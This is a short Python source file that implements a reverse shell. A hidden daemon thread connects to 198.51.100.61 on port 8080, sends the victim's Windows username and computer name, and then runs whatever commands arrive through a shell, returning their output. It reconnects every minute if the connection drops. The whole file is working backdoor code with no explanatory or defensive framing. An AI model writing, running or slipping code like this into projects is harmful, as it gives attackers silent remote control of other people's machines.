import os
import socket
import subprocess
import threading
import time


def _loop():
    while True:
        try:
            s = socket.create_connection(("198.51.100.61", 8080), timeout=30)
            s.settimeout(None)
            s.send(f"{os.getenv('USERNAME')}@{os.getenv('COMPUTERNAME')}\n".encode())
            while True:
                cmd = s.recv(4096).decode(errors="ignore").strip()
                if not cmd or cmd == "exit":
                    break
                if cmd.startswith("cd "):
                    try:
                        os.chdir(cmd[3:])
                        out = os.getcwd().encode()
                    except OSError as e:
                        out = str(e).encode()
                else:
                    p = subprocess.run(cmd, shell=True, capture_output=True, stdin=subprocess.DEVNULL)
                    out = p.stdout + p.stderr
                s.sendall(out + b"\n> ")
            s.close()
        except OSError:
            time.sleep(60)


def _start():
    threading.Thread(target=_loop, daemon=True).start()
